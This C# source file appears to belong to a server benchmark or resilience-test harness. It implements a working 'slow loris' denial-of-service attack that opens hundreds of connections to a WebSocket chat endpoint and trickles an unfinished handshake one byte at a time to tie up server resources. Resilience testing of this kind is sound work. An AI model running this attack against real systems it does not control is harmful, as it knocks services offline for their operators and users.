using System.Net.Sockets;
using NewLoom.Bench.Sockets;

namespace NewLoom.Bench.Attacks;

/// <summary>Connections that send their handshake a byte at a time, and never the end of it ("slow loris").</summary>
public sealed class SlowHandshakes(TimeProvider time) : IAttack
{
    private const int ConnectionsUsual = 500;
    private static readonly TimeSpan BetweenBytes = TimeSpan.FromMilliseconds(200);

    /// <inheritdoc />
    public string Name => "slow handshakes";

    /// <inheritdoc />
    public async Task<string> RunAsync(AttackTarget target, CancellationToken lasting)
    {
        var tally = new Tally();
        await Task.WhenAll(Enumerable.Range(0, target.Scaled(ConnectionsUsual))
            .Select(_ => TrickleAsync(target, tally, lasting)));
        return tally.ToString();
    }

    private async Task TrickleAsync(AttackTarget target, Tally tally, CancellationToken lasting)
    {
        var request = Handshake.Request(target.Server.Authority, "/ws/chat/")[..^4];
        try
        {
            using var socket = await RawSocket.ConnectAsync(
                target.Server, AttackTarget.Address(attack: 2), receiveBytes: null, lasting);
            using var timer = new PeriodicTimer(BetweenBytes, time);
            for (var i = 0; await timer.WaitForNextTickAsync(lasting); i++)
            {
                // Past the request, a header that has no end.
                await socket.SendAsync(i < request.Length ? request.AsMemory(i, 1) : "x"u8.ToArray(), lasting);
            }
        }
        catch (OperationCanceledException)
        {
            tally.Add("held to the end");
        }
        catch (SocketException)
        {
            tally.Add("dropped");
        }
    }
}
